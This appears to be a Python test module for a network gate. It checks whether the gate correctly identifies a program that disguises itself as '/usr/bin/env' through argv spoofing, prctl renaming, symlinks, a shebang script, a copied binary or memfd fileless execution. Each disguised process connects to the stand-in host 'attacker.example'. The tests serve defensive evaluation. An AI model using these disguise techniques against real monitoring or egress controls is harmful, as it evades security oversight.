"""Who calls: pretending to be another program. The gate's refusal says whom it took the caller for."""

import os
import shutil
import socket
import sys

from immure.attack.attack import Stopped, attack
from immure.attack.gate import ANYWHERE, PATIENCE, refusal
from immure.attack.system_calls import libc, said

KERNEL = "gate: the kernel says who calls"
PRETENDED = "/usr/bin/env"
SCRIPT = (
    "import socket; c = socket.create_connection(('attacker.example', 80), 10);"
    "c.sendall(b'GET / HTTP/1.1\\r\\nHost: attacker.example\\r\\nConnection: close\\r\\n\\r\\n');"
    "print(b''.join(iter(lambda: c.recv(65536), b'')).decode().partition('\\r\\n\\r\\n')[2].replace(chr(10), ' '))"
)


def judged(answer: str, pretended: str) -> object:
    named = refusal(b"\r\n\r\n" + answer.encode()).get("binary")
    if named is None:
        raise Stopped("UNNAMED")
    if named == pretended:
        return named
    raise Stopped("NAMED")


def interpreter() -> str:
    return os.path.realpath(sys.executable)


@attack(KERNEL, "NAMED", control="be_refused_in_plain_http")
def pretend_by_the_name_on_the_command_line() -> object:
    return judged(said("bash", "-c", 'exec -a "$1" "$2" -I -c "$3"', "-", PRETENDED, interpreter(), SCRIPT), PRETENDED)


@attack(KERNEL, "NAMED", control="be_refused_in_plain_http")
def pretend_by_the_name_of_the_process() -> object:
    libc.prctl(15, b"env", 0, 0, 0)
    with socket.create_connection((ANYWHERE, 80), PATIENCE) as client:
        client.sendall(b"GET / HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n")
        answer = b"".join(iter(lambda: client.recv(65536), b""))
    return judged(answer.partition(b"\r\n\r\n")[2].decode(), PRETENDED)


@attack(KERNEL, "NAMED", control="be_refused_in_plain_http")
def pretend_by_a_symbolic_link() -> object:
    os.makedirs("/tmp/pretender", exist_ok=True)
    os.symlink(interpreter(), "/tmp/pretender/env")
    return judged(said("/tmp/pretender/env", "-I", "-c", SCRIPT), "/tmp/pretender/env")


@attack(KERNEL, "NAMED", control="be_refused_in_plain_http")
def pretend_by_a_script_of_that_name() -> object:
    os.makedirs("/tmp/scripts", exist_ok=True)
    with open("/tmp/scripts/env", "w") as file:
        file.write(f"#!{interpreter()}\n{SCRIPT}\n")
    os.chmod("/tmp/scripts/env", 0o755)
    return judged(said("/tmp/scripts/env"), "/tmp/scripts/env")


@attack(KERNEL, "NAMED", control="be_refused_in_plain_http")
def pretend_to_be_the_original_of_a_copy() -> object:
    os.makedirs("/tmp/copies", exist_ok=True)
    shutil.copy(interpreter(), "/tmp/copies/env")
    environment = f"PYTHONHOME={sys.base_prefix}"
    return judged(said("env", environment, "/tmp/copies/env", "-S", "-c", SCRIPT), interpreter())


@attack(KERNEL, "NAMED UNNAMED", control="be_refused_in_plain_http")
def pretend_by_a_program_without_a_file() -> object:
    memory = os.memfd_create("env", 0)
    with open(interpreter(), "rb") as program:
        shutil.copyfileobj(program, os.fdopen(os.dup(memory), "wb"))
    return judged(said("env", f"PYTHONHOME={sys.base_prefix}", f"/proc/{os.getpid()}/fd/{memory}", "-S", "-c", SCRIPT), PRETENDED)
